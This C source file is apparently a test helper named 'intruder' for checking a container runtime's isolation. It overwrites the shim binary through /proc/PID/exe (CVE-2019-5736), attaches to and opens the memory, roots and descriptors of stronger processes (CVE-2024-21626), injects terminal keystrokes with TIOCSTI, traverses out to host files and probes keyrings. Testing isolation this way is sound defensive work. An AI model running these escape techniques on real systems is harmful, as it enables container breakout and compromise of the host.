/*
 * intruder - an app that attacks whoever enters its pod
 *
 * Static. Each mode tries what a published attack did, and prints what came of it, so that a test
 * can tell an attack that failed from one that never happened.
 *
 *     --hunt SECONDS     looks at every other process of the pod, again and again: opens its
 *                        program and writes to it, also later, when it is gone (CVE-2019-5736);
 *                        attaches to it; opens its root, memory and descriptors (CVE-2024-21626).
 *                        Prints `hunted: shims N opened N written N refused N stronger N foreign N`
 *     --push TEXT        pushes TEXT (\n: line feed) into every terminal that it has (TIOCSTI);
 *                        prints `pushed N`
 *     --out PATH         from its working directory, from every descriptor and from `..` above
 *                        them, tries to read PATH of the host; prints `out N`
 *     --with-key NAME PROGRAM ARG...
 *                        becomes PROGRAM, with a key of that name in a new session keyring
 *     --find-key NAME    prints `key found` or `key not found`
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <linux/keyctl.h>

static struct {
    unsigned shims;    /* programs that were the shim */
    unsigned opened;   /* programs that could be opened for reading */
    unsigned written;  /* writes that succeeded */
    unsigned refused;  /* processes that could not be looked at */
    unsigned stronger; /* processes with more capabilities that could be attached to */
    unsigned foreign;  /* descriptors and roots of others that lead to something else */
} found;

static int held[64]; /* programs, kept open until their process is gone */
static unsigned held_count;

static unsigned long long effective(const char *pid) {
    char path[300];
    char line[256];
    unsigned long long caps = 0;
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    FILE *f = fopen(path, "r");
    while (f != NULL && fgets(line, sizeof line, f) != NULL) {
        if (strncmp(line, "CapEff:", 7) == 0)
            caps = strtoull(line + 7, NULL, 16);
    }
    if (f != NULL)
        fclose(f);
    return caps;
}

static void write_to(const char *path) {
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0)
        fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    if (pwrite(fd, "overwritten", 11, 0) > 0)
        found.written++;
    if (ftruncate(fd, 0) == 0)
        found.written++;
    close(fd);
}

static void try_program(const char *pid) {
    char path[300];
    char target[256];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n < 0) {
        found.refused++;
        return;
    }
    target[n] = '\0';
    if (strstr(target, "jetpack-shim") == NULL)
        return;
    found.shims++;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        found.opened++;
        if (held_count < 64)
            held[held_count++] = fd;
        else
            close(fd);
    }
    write_to(path);
}

/* A folder of somebody else that is not below our own root. */
static void try_folder(const char *path, const struct stat *root) {
    struct stat st;
    char above[512];
    int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        return;
    /* The root of another mount namespace, or a folder that has no way up to ours. */
    for (int i = 0; i < 64 && fstat(fd, &st) == 0; i++) {
        if (st.st_dev == root->st_dev && st.st_ino == root->st_ino) {
            close(fd);
            return;
        }
        int up = openat(fd, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        struct stat higher;
        if (up < 0 || fstat(up, &higher) < 0 ||
            (higher.st_dev == st.st_dev && higher.st_ino == st.st_ino)) {
            if (up >= 0)
                close(up);
            break;
        }
        close(fd);
        fd = up;
    }
    ssize_t n = readlink(path, above, sizeof above - 1);
    above[n > 0 ? n : 0] = '\0';
    printf("foreign %s -> %s\n", path, above);
    found.foreign++;
    close(fd);
}

static void try_files(const char *pid) {
    struct stat root;
    char path[600];
    if (stat("/", &root) < 0)
        return;
    snprintf(path, sizeof path, "/proc/%s/root", pid);
    try_folder(path, &root);
    snprintf(path, sizeof path, "/proc/%s/cwd", pid);
    try_folder(path, &root);
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *d = opendir(path);
    for (struct dirent *e = d != NULL ? readdir(d) : NULL; e != NULL; e = readdir(d)) {
        snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, e->d_name);
        if (e->d_name[0] != '.')
            try_folder(path, &root);
    }
    if (d != NULL)
        closedir(d);
}

/* What was stronger may have become the app meanwhile: only what is still stronger counts. */
static void try_attach(const char *pid, unsigned long long own) {
    pid_t number = (pid_t)atoi(pid);
    char path[300];
    if ((effective(pid) & ~own) == 0)
        return;
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd >= 0) {
        found.stronger += (effective(pid) & ~own) != 0;
        close(fd);
    }
    if (ptrace(PTRACE_SEIZE, number, NULL, NULL) == 0) {
        found.stronger += (effective(pid) & ~own) != 0;
        (void)ptrace(PTRACE_DETACH, number, NULL, NULL);
    }
}

static void hunt(unsigned seconds) {
    time_t end = time(NULL) + (time_t)seconds;
    unsigned long long own = effective("self");
    pid_t self = getpid();
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        for (struct dirent *e = d != NULL ? readdir(d) : NULL; e != NULL; e = readdir(d)) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == self)
                continue;
            try_program(e->d_name);
            try_attach(e->d_name, own);
            try_files(e->d_name);
        }
        if (d != NULL)
            closedir(d);
        for (unsigned i = 0; i < held_count; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            write_to(path);
        }
    }
    printf("hunted: shims %u opened %u written %u refused %u stronger %u foreign %u\n", found.shims,
           found.opened, found.written, found.refused, found.stronger, found.foreign);
    fflush(stdout);
}

static void push(const char *text) {
    unsigned pushed = 0;
    int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR | O_CLOEXEC)};
    for (int i = 0; i < 4; i++) {
        for (const char *p = text; *p != '\0'; p++) {
            char c = *p;
            if (p[0] == '\\' && p[1] == 'n') {
                c = '\n';
                p++;
            }
            if (fds[i] >= 0 && ioctl(fds[i], TIOCSTI, &c) == 0)
                pushed++;
        }
    }
    printf("pushed %u\n", pushed);
    fflush(stdout);
}

static unsigned try_read(int dir, const char *path) {
    char byte;
    int fd = openat(dir, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    unsigned got = read(fd, &byte, 1) == 1;
    close(fd);
    return got;
}

static void out(const char *path) {
    char up[1024] = "";
    unsigned got = 0;
    while (*path == '/')
        path++;
    for (int depth = 0; depth < 24; depth++) {
        char whole[2048];
        snprintf(whole, sizeof whole, "%s%s", up, path);
        got += try_read(AT_FDCWD, whole);
        for (int fd = 0; fd < 256; fd++)
            got += try_read(fd, whole);
        strcat(up, "../");
    }
    printf("out %u\n", got);
    fflush(stdout);
}

static int with_key(const char *name, char **argv) {
    if (argv[0] == NULL || syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL, 0, 0, 0) < 0 ||
        syscall(SYS_add_key, "user", name, "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0)
        return 3;
    execv(argv[0], argv);
    return 127;
}

static void find_key(const char *name) {
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0);
    puts(key >= 0 ? "key found" : "key not found");
}

int main(int argc, char **argv) {
    for (int i = 1; i + 1 < argc; i += 2) {
        if (strcmp(argv[i], "--hunt") == 0)
            hunt((unsigned)atoi(argv[i + 1]));
        else if (strcmp(argv[i], "--push") == 0)
            push(argv[i + 1]);
        else if (strcmp(argv[i], "--out") == 0)
            out(argv[i + 1]);
        else if (strcmp(argv[i], "--with-key") == 0)
            return with_key(argv[i + 1], argv + i + 2);
        else if (strcmp(argv[i], "--find-key") == 0)
            find_key(argv[i + 1]);
        else
            return 64;
    }
    return 0;
}
